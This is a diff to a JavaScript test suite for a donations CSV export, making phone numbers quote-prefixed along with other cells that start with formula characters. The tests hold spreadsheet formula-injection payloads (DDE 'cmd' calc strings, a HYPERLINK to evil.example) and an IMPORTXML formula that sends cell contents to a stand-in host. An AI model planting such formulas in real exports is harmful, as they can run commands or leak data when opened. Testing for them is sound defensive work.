@@ -222,7 +222,8 @@ describe('GET /api/admin/donations.csv', () => {
       first_name: 'José María',
       last_name: 'Núñez',
       email: 'jose@example.org',
-      phone: '+1 (555) 010-0100',
+      // NOTE: a phone number starting with + is neutralised like any other cell (decision 0061).
+      phone: "'+1 (555) 010-0100",
       street: '1 Rue de la Paix, Apt "B"',
       city: 'Montréal',
       zip_code: 'H2X 1Y4',
@@ -263,7 +264,7 @@ describe('GET /api/admin/donations.csv', () => {
       Donation_Anonymous__c: 'true',
       Donation_Recurring__c: 'true',
     });
-    expect(npsp[0]).toMatchObject({ npsp__Home_City__c: 'Montréal', npsp__Contact1_Home_Phone__c: '+1 (555) 010-0100', Donation_Anonymous__c: 'false', Donation_Recurring__c: 'false' });
+    expect(npsp[0]).toMatchObject({ npsp__Home_City__c: 'Montréal', npsp__Contact1_Home_Phone__c: "'+1 (555) 010-0100", Donation_Anonymous__c: 'false', Donation_Recurring__c: 'false' });
 
     const bloomerang = records((await getExport({ ...MARCH_2025, format: 'bloomerang' })).body);
     expect(bloomerang.map((row) => [row['Last Name'], row.Amount, row.Date, row['Anonymous?'], row['Recurring?']])).toEqual([
@@ -305,7 +306,7 @@ describe('GET /api/admin/donations.csv', () => {
     expect(records((await getExport({ from: '2025-03-01', to: '2025-03-01', format: 'standard' })).body).map((row) => row.donation_id)).toEqual([first]);
   });
 
-  it('neutralises every cell that starts with = + - @ tab or CR (a quote first), from the API or stored; numbers and phone numbers stay as they are', async () => {
+  it('neutralises every cell that starts with = + - @ tab or CR (a quote first), from the API or stored, phone numbers included', async () => {
     const payloads = ['=HYPERLINK("http://evil.example","Click")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0'];
     for (const [i, payload] of payloads.entries()) {
       await give(`2025-03-0${i + 1}T10:00:00Z`, { donorName: `${payload} x`, message: payload, donorPhone: '+44 20 7946 0958' });
@@ -319,9 +320,7 @@ describe('GET /api/admin/donations.csv', () => {
       expect(rows, format).toHaveLength(6);
       for (const row of rows) {
         for (const [column, cell] of Object.entries(row)) {
-          if (/^[=+\-@\t\r＝＋－＠]/.test(cell)) {
-            expect(cell, `${format} ${column}: only a phone number may start so`).toMatch(/^\+[\d ()-]+$/);
-          }
+          expect(cell, `${format} ${column}`).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
         }
       }
     }
@@ -330,7 +329,7 @@ describe('GET /api/admin/donations.csv', () => {
     expect(rows.map((row) => row.donor_name)).toEqual([...payloads.map((payload) => `'${payload} x`), "'\t=1+1 Tab", "'\r=1+1 Return"]);
     // The name is split after trimming its white space, so the first name starts with `=`: neutralised all the same.
     expect(rows.map((row) => row.first_name)).toEqual([...payloads.map((payload) => `'${payload}`), "'=1+1", "'=1+1"]);
-    expect(rows.map((row) => row.phone).slice(0, 4)).toEqual(Array(4).fill('+44 20 7946 0958'));
+    expect(rows.map((row) => row.phone).slice(0, 4)).toEqual(Array(4).fill("'+44 20 7946 0958"));
     expect(rows[4]?.city).toBe('\'=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")');
     expect(rows[5]?.street).toBe("'－1+1 full-width minus");
     const npsp = records((await getExport({ ...MARCH_2025, format: 'npsp' })).body);
